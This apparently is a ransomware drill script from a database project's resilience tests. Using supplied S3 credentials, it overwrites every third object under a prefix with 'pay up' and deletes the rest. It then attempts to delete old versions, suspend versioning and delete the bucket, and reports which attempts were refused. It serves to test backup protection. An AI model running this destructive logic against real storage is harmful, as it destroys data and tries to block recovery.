#!/usr/bin/python3
# Copyright: (c) 2026, FraiseQL contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The fault of drill ransomware: with the cluster's key, a third of a repository is overwritten and the rest deleted.

    RANSOM_KEY=… RANSOM_SECRET=… ransom.py ENDPOINT:PORT BUCKET PREFIX CA_FILE

Says how many objects it destroyed, and what else it tried and was refused. It cannot destroy a version, so
s3_repository_restore is its undoing.
"""

from __future__ import annotations

import json
import os
import sys
import typing as t

import boto3
from botocore.config import Config
from botocore.exceptions import ClientError


def destroy(client: t.Any, bucket: str, prefix: str) -> dict[str, t.Any]:
    """Every third object is overwritten, all others are deleted; then all older versions are tried."""
    pages = client.get_paginator("list_objects_v2").paginate(Bucket=bucket, Prefix=prefix)
    keys = sorted(one["Key"] for page in pages for one in page.get("Contents", []))
    for place, key in enumerate(keys):
        if place % 3 == 0:
            client.put_object(Bucket=bucket, Key=key, Body=b"pay up")
        else:
            client.delete_object(Bucket=bucket, Key=key)
    return {
        "overwritten": len(keys[::3]),
        "deleted": len(keys) - len(keys[::3]),
        "refused": [
            name
            for name, tried in (
                ("delete_versions", lambda: delete_versions(client, bucket, prefix)),
                ("suspend_versioning", lambda: suspend(client, bucket)),
                ("delete_bucket", lambda: client.delete_bucket(Bucket=bucket)),
            )
            if refused(tried)
        ],
    }


def delete_versions(client: t.Any, bucket: str, prefix: str) -> None:
    for page in client.get_paginator("list_object_versions").paginate(Bucket=bucket, Prefix=prefix):
        for one in page.get("Versions", []):
            client.delete_object(Bucket=bucket, Key=one["Key"], VersionId=one["VersionId"])


def suspend(client: t.Any, bucket: str) -> None:
    client.put_bucket_versioning(Bucket=bucket, VersioningConfiguration={"Status": "Suspended"})


def refused(tried: t.Callable[[], t.Any]) -> bool:
    try:
        tried()
    except ClientError:
        return True
    return False


def main() -> None:
    endpoint, bucket, prefix, authority = sys.argv[1:]
    client = boto3.client(
        "s3",
        endpoint_url=f"https://{endpoint}",
        region_name=os.environ.get("RANSOM_REGION", "us-east-1"),
        aws_access_key_id=os.environ["RANSOM_KEY"],
        aws_secret_access_key=os.environ["RANSOM_SECRET"],
        verify=authority,
        config=Config(s3={"addressing_style": "path"}),
    )
    print(json.dumps(destroy(client, bucket, prefix)))


if __name__ == "__main__":
    main()
